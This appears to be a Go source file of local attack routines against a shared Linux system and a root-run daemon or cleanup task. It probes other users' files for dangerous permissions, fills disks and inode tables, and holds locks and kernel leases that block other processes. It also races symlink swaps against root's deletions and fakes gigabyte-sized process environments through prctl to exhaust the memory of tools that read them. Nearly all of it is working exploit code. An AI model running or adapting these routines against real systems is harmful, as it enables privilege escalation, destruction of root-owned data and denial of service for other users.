package main

import (
	"bufio"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"unsafe"
)

// probe tries every operation on every path below a folder, except on the user's own folders. It prints the
// operations that succeed.
func probe(top string, own []string) error {
	return filepath.WalkDir(top, func(path string, entry fs.DirEntry, err error) error {
		if slices.Contains(own, path) {
			return fs.SkipDir
		}
		if err != nil {
			return nil // the user may not read this folder
		}
		for name, try := range operations(path, entry.IsDir()) {
			if try() == nil {
				fmt.Println(name, path)
			}
		}
		return nil
	})
}

// operations are what a user could try on a path of another user.
func operations(path string, isDir bool) map[string]func() error {
	all := map[string]func() error{
		"chmod":  func() error { return os.Chmod(path, 0o777) },
		"chown":  func() error { return os.Chown(path, os.Getuid(), os.Getgid()) },
		"write":  func() error { return opened(path, os.O_WRONLY) },
		"rename": func() error { return os.Rename(path, path+".moved") },
		"link":   func() error { return os.Link(path, filepath.Join(os.TempDir(), "linked")) },
		"utime":  func() error { return os.Chtimes(path, past, past) },
	}
	if isDir {
		all["create"] = func() error { return os.WriteFile(filepath.Join(path, "made"), nil, 0o600) }
		all["symlink"] = func() error { return os.Symlink("/etc", filepath.Join(path, "7.json")) }
		all["mkdir"] = func() error { return os.Mkdir(filepath.Join(path, "99"), 0o700) }
		all["fifo"] = func() error { return syscall.Mkfifo(filepath.Join(path, "lock.new"), 0o600) }
		return all
	}
	all["read"] = func() error { return opened(path, os.O_RDONLY) }
	all["flock"] = func() error { return locked(path) }
	all["truncate"] = func() error { return os.Truncate(path, 0) }
	all["remove"] = func() error { return os.Remove(path) }
	return all
}

func opened(path string, flag int) error {
	file, err := os.OpenFile(path, flag, 0)
	if err == nil {
		file.Close()
	}
	return err
}

// locked locks a file until this process ends.
func locked(path string) error {
	fd, err := syscall.Open(path, syscall.O_RDONLY|syscall.O_NONBLOCK, 0)
	if err != nil {
		return err
	}
	return syscall.Flock(fd, syscall.LOCK_EX|syscall.LOCK_NB)
}

// deep makes nested folders.
func deep(dir string, levels int) error {
	if err := os.Chdir(dir); err != nil {
		return err
	}
	for range levels {
		if err := os.Mkdir("d", 0o700); err != nil {
			return err
		}
		if err := syscall.Chdir("d"); err != nil {
			return err
		}
	}
	return nil
}

// crowd makes this many files, or as many as fit on the file system.
func crowd(dir string, files int) error {
	for i := range files {
		fd, err := syscall.Open(fmt.Sprintf("%s/%d", dir, i), syscall.O_CREAT|syscall.O_WRONLY, 0o600)
		if err == syscall.ENOSPC {
			return nil
		}
		if err != nil {
			return err
		}
		syscall.Close(fd)
	}
	return nil
}

// fill writes until the file system is full, but not more than 2 GiB.
func fill(dir string) error {
	file, err := os.Create(filepath.Join(dir, "full"))
	if err != nil {
		return err
	}
	chunk := make([]byte, 1<<20)
	for range 2 << 10 {
		if _, err := file.Write(chunk); err != nil {
			return nil
		}
	}
	return nil
}

// hold has the first folder as its cwd, and has everything in all folders open and locked.
func hold(dirs []string) error {
	if err := os.Chdir(dirs[0]); err != nil {
		return err
	}
	for _, dir := range dirs {
		_ = filepath.WalkDir(dir, func(path string, _ fs.DirEntry, _ error) error {
			_ = locked(path)
			return nil
		})
	}
	return sleep()
}

// refill makes files and folders without end, also in folders that root is about to remove.
func refill(dir string) error {
	if err := os.Chdir(dir); err != nil {
		return err
	}
	n := 0
	return until(func() {
		n++
		_ = os.WriteFile(fmt.Sprint("f", n), nil, 0o600)
		_ = os.Mkdir(fmt.Sprint("d", n), 0o700)
		if n%100 == 0 {
			_ = os.Chdir(fmt.Sprint("d", n))
		}
	})
}

// swap replaces a folder of the user by a link to a folder of root, and the link by the folder, as fast as possible.
func swap(dir, target string) error {
	for _, name := range []string{"x", "y"} {
		if err := os.MkdirAll(filepath.Join(dir, name, "precious"), 0o700); err != nil {
			return err
		}
	}
	link, x, y := filepath.Join(dir, "link"), filepath.Join(dir, "x"), filepath.Join(dir, "y")
	return until(func() {
		_ = os.Symlink(target, link)
		_ = os.MkdirAll(filepath.Join(x, "precious"), 0o700)
		_ = os.Rename(x, y)
		_ = os.Rename(link, x)
		_ = os.Remove(x)
		_ = os.Rename(y, x)
	})
}

// lease makes the kernel block every process that opens a file, because this process has a lease on the file. The
// kernel gives the holder of a lease 45 s to release it.
func lease(path string) error {
	file, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	if _, _, errno := syscall.Syscall(syscall.SYS_FCNTL, file.Fd(), syscall.F_SETLEASE, syscall.F_WRLCK); errno != 0 {
		return errno
	}
	return sleep()
}

// The attack on the memory of a program that reads the environment or the command line of a process. A process may
// set the address and the length of both in its own memory. Memory that the process never wrote costs nothing.

const (
	prSetMM    = 35
	prSetMMMap = 14
)

// mmMap is the kernel's struct prctl_mm_map.
type mmMap struct {
	startCode, endCode, startData, endData, startBrk, brk, startStack, argStart, argEnd, envStart, envEnd uint64
	auxv                                                                                                  uintptr
	auxvSize                                                                                              uint32
	exe                                                                                                   int32
}

// claim gives this process an environment and a command line of this many GiB. Both begin with the entry.
func claim(gib int, entry string) error {
	size := gib << 30
	memory, err := syscall.Mmap(-1, 0, size, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_PRIVATE|syscall.MAP_ANON|syscall.MAP_NORESERVE)
	if err != nil {
		return err
	}
	copy(memory, entry)
	fields, err := ownStat()
	if err != nil {
		return err
	}
	brk, _, _ := syscall.RawSyscall(syscall.SYS_BRK, 0, 0, 0)
	start := uint64(uintptr(unsafe.Pointer(&memory[0])))
	m := mmMap{
		startCode: fields[26], endCode: fields[27], startData: fields[45], endData: fields[46], startBrk: fields[47], brk: uint64(brk),
		startStack: fields[28], argStart: start, argEnd: start + uint64(size), envStart: start, envEnd: start + uint64(size), exe: -1,
	}
	if _, _, errno := syscall.RawSyscall6(syscall.SYS_PRCTL, prSetMM, prSetMMMap, uintptr(unsafe.Pointer(&m)), unsafe.Sizeof(m), 0, 0); errno != 0 {
		return fmt.Errorf("prctl: %w", errno)
	}
	return sleep()
}

// ownStat returns the fields of /proc/self/stat by their numbers in proc(5).
func ownStat() (map[int]uint64, error) {
	content, err := os.ReadFile("/proc/self/stat")
	if err != nil {
		return nil, err
	}
	fields := map[int]uint64{}
	for i, field := range strings.Fields(string(content[strings.LastIndexByte(string(content), ')')+1:])) {
		fields[i+3], _ = strconv.ParseUint(field, 10, 64)
	}
	return fields, nil
}

// claims starts this many processes that call claim. They end with this process. Every second one has the environment
// of a daemon with the pipe folder.
func claims(count, gib int, pipe string) error {
	runtime.LockOSThread() // the processes end with this thread
	for i := range count {
		entry := ""
		if i%2 == 0 {
			entry = "x\x00-d\x00CUDA_MPS_PIPE_DIRECTORY=" + pipe + "\x00"
		}
		process := exec.Command(os.Args[0], "claim", strconv.Itoa(gib), strconv.Quote(entry))
		process.Env = []string{"GOMAXPROCS=1"}
		if err := begin(process); err != nil {
			return err
		}
	}
	return sleep()
}

// begin starts a process that ends with this thread, and waits until it is ready.
func begin(process *exec.Cmd) error {
	process.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	out, err := process.StdoutPipe()
	if err != nil {
		return err
	}
	if err := process.Start(); err != nil {
		return err
	}
	if line, err := bufio.NewReader(out).ReadString('\n'); line != "ready\n" {
		return fmt.Errorf("%q prints %q: %v", process.Args, line, err)
	}
	return nil
}
